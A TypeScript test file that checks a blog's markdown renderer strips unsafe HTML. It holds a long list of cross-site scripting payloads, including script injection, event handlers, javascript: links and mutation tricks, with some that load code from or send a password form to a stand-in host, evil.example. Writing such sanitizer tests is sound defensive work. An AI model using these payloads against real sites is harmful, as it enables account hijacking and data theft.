import { expect, test } from 'vitest'
import { elementsOf, textOf } from '../../../testing/markup.ts'
import { renderMarkdown } from './render.ts'

// biome-ignore format: a list of names
const HTML = new Set([
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'strong', 'em', 'b', 'i', 'u', 's', 'del', 'ins', 'sub', 'sup',
  'mark', 'small', 'kbd', 'samp', 'var', 'code', 'pre', 'blockquote', 'q', 'cite', 'abbr', 'ul', 'ol', 'li', 'dl', 'dt',
  'dd', 'table', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td', 'caption', 'a', 'img', 'figure', 'figcaption', 'details',
  'summary', 'div', 'span', 'header', 'label',
])
const MATHML = /^(math|semantics|annotation|m[a-z]+)$/
const ATTRIBUTES =
  /^(href|title|rel|src|alt|loading|decoding|width|height|start|open|colspan|rowspan|scope|id|class|tabindex|role|aria-label)$/
const NEVER =
  /^(on.*|style|id|name|srcdoc|action|formaction|srcset|ping|target|xlink:href|background|data-.*)$/
const BOXES = [
  { type: 'checkbox', autocomplete: 'off', 'aria-label': 'Show spoiler' },
  { type: 'checkbox', disabled: '', 'aria-label': 'Open task' },
  { type: 'checkbox', disabled: '', checked: '', 'aria-label': 'Completed task' },
]
const SCHEMES = /^(https?:|mailto:|[^:]*$)/i

/** Checks that the markup contains only what is allowed, for any text. */
function check(html: string) {
  for (const { tag, attributes } of elementsOf(html)) {
    // The spoiler's box is the only control, and always the same. A task's box cannot be changed.
    if (tag === 'input') {
      expect(BOXES).toContainEqual(attributes)
      continue
    }
    if (tag === 'label') expect(attributes).toEqual({ class: 'spoiler' })
    expect(HTML.has(tag) || MATHML.test(tag), `<${tag}> in ${html}`).toBe(true)
    for (const [name, value] of Object.entries(attributes)) {
      expect(HTML.has(tag) ? ATTRIBUTES.test(name) : /^[a-z]+$/.test(name), `${name} on <${tag}>`).toBe(true)
      const own = name === 'id' && /^h-/.test(value) && /^h[1-6]$/.test(tag)
      expect(NEVER.test(name) && !own, `${name}="${value}" on <${tag}>`).toBe(false)
      if (name === 'href' || name === 'src') expect(SCHEMES.test(value), `${name}="${value}"`).toBe(true)
      if (name === 'src') expect(/^(?:https?:)?[\\/]{2}/.test(value), `src="${value}"`).toBe(false)
    }
    if (tag === 'a') expect(attributes.rel).toBe('noopener nofollow ugc')
  }
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onload=alert(1) onerror = "alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/pixel.png">',
  '<img src="/\\evil.example/pixel.png">',
  '<img src="https:/\\evil.example/pixel.png">',
  '<img src="\thttps://evil.example/pixel.png">',
  '<img srcset="https://evil.example/a 1x" src="/a.png">',
  '<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1)></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src=x><applet></applet>',
  '<form action="https://evil.example"><input name=password><button formaction=x>b</button></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//x>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<style>@import "//evil.example"; body { background: url(//evil.example) }</style>',
  '<p style="background:url(//evil.example)" class="btn" id="main" name="x" data-v="1">p</p>',
  '<h2 id="main" onclick=alert(1)>h</h2><a id=location name=location>c</a>',
  '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt&colon;alert(1)">b</a><a href="java&#10;script:alert(1)">c</a>',
  '<a href=" &#14; javascript:alert(1)">a</a><a href="vbscript:x">b</a><a href="data:text/html,x">c</a>',
  '<a href="//evil.example" target=_blank ping=//x rel=opener>a</a>',
  '[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](data:text/html,x) [d](vbscript:x)',
  '[a](<javascript:alert(1)>) ![b](javascript:alert(1)) <javascript:alert(1)>',
  '[a]\n\n[a]: javascript:alert(1)',
  '![a" onerror="alert(1)](/x.png "t" onload=alert(1)")',
  '[a](https://x.org "\\" onmouseover=alert(1) x=\\"")',
  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '```js "><img/src/onerror=alert(1)>\n1\n```',
  '``` js " onfocus="alert(1)\n1\n```',
  '$\\text{<img src=x onerror=alert(1)>}$ $\\text{"}\\text{ onmouseover=alert(1) x="}$',
  '$</annotation></semantics></math><script>alert(1)</script>$',
  '<div title="\n\n$\\text{ onmouseover=alert(1) x}$\n\n```js\n onclick=alert(1) \n```\n\n">x</div>',
  "<ol start='\n\n$\\text{ onmouseover=alert(1) x}$\n\n'>x</ol>",
  "<details open='\n\n```js\n onclick=alert(1) \n```\n\n'>x</details>",
  "<td colspan='\n\n$$\n\\text{ onclick=alert(1) x}\n$$\n\n'>x</td>",
  '<a title="\n\n```html\n"><img src=x onerror=alert(1)>\n```\n\n">x</a>',
  '<img alt="\n\n$\\text{ onerror=alert(1) src=x }$\n\n" src="https://x.org/a.png">',
  '<b <script>alert(1)</script>0',
  '<!--><script>alert(1)</script>--> <!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]> <?php <script>alert(1)</script> ?>',
  '<details ontoggle=alert(1) open><summary onclick=alert(1)>s</summary></details>',
  '<table background="javascript:alert(1)"><td background="x" class="r evil">x</td></table>',
  '<audio src=x onerror=alert(1)><video><source onerror=alert(1)></video>',
  '<p title="a\u0000b" onclick\u0000=alert(1)>\u2028<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '||<script>alert(1)</script>|| ||<img src=x onerror=alert(1)>|| ||[a](javascript:alert(1))||',
  '||<b>x||</b> <i>||y</i>|| ||</span></label>|| ||</p><div>|| </div>',
  ':::spoiler <img src=x onerror=alert(1)> "onclick=alert(1)\n<script>alert(1)</script>\n:::',
  ':::spoiler </summary></details><script>alert(1)</script>\n</details>\n\n:::\n<label for=x onclick=alert(1)><input autofocus onfocus=alert(1)></label>',
  '<label class="spoiler" onclick=alert(1) for=main>x</label><input type=checkbox name=x form=y>',
  '- [x] <input type=checkbox onclick=alert(1)> <script>alert(1)</script>\n- [ ] "onclick=alert(1)\n- [<img src=x onerror=alert(1)>] a',
  '<ul><li class="task btn"><input type=checkbox checked disabled aria-label="Completed task" onfocus=alert(1)>x</li></ul>',
  '<img src="/pictures/x.webp" width="9999999" height="1" srcset="//x" sizes=x>',
  '<marquee onstart=alert(1)>x</marquee><blink>y</blink><x-y onclick=alert(1)>z</x-y>',
  '&lt;script&gt;alert(1)&lt;/script&gt; \\<script>alert(1)\\</script>',
  '# <img src=x onerror=alert(1)>\n\n| <script>alert(1)</script> | b |\n|--|--|\n| [x](javascript:alert(1)) | <svg/onload=alert(1)> |',
]

test.each(attacks.map((attack) => [attack]))(
  'BLOG-18 safety X1 %j leaves only what is allowed',
  async (attack) => {
    check((await renderMarkdown(attack)).html)
    check((await renderMarkdown(`text ${attack} text\n\n> - ${attack}`)).html)
  },
)

test('BLOG-18 the check itself sees what it looks for', () => {
  const bad = [
    '<img src=x onerror=alert(1)>',
    '<script></script>',
    '<a href="javascript:x" rel="noopener nofollow ugc">',
  ]
  for (const markup of [
    ...bad,
    '<p style="x">',
    '<h2 id="main">',
    '<img src="//x.org/a">',
    '<a href="/x">a</a>',
    '<input type="text">',
    '<label for="x">a</label>',
    '<input type="checkbox" checked="" aria-label="Completed task">',
  ])
    expect(() => check(markup), markup).toThrow()
})

test('BLOG-18 all attacks together leave only what is allowed', async () => {
  check((await renderMarkdown(attacks.join('\n\n'))).html)
  check((await renderMarkdown(attacks.join(' '))).html)
})

test('BLOG-18 nobody writes a box but as a task or a spoiler', async () => {
  const { html } = await renderMarkdown(
    '<input type="checkbox" disabled checked aria-label="Completed task"> [x] a',
  )
  expect(elementsOf(html).map(({ tag }) => tag)).toEqual(['p'])
})

test('BLOG-18 nobody can write the word that stands for our own markup', async () => {
  const html = (await renderMarkdown('`x0-0-` x000000000000000000000000-0- $x$')).html
  expect(textOf(html)).toContain('x000000000000000000000000-0-')
  const other = (await renderMarkdown('<p title="a\n\n$x$\n\nb">c</p>')).html
  check(other)
})

test('BLOG-18 safety X4 no image of another site is loaded', async () => {
  const sources = [
    'https://x.org/a.png',
    'HTTP://x.org/a.png',
    '//x.org/a.png',
    '/\\x.org/a.png',
    '\\\\x.org\\a.png',
  ]
  for (const source of [...sources, '/\t/x.org/a', ' //x.org/a', 'https:x.org/a', '&#47;/x.org/a']) {
    const { html } = await renderMarkdown(`<img src="${source}" alt="a"> ![b](<${source}>)`)
    const images = elementsOf(html).filter(({ tag }) => tag === 'img')
    for (const { attributes } of images)
      expect(new URL(attributes.src ?? '', 'http://own.example').host, source).toBe('own.example')
  }
})
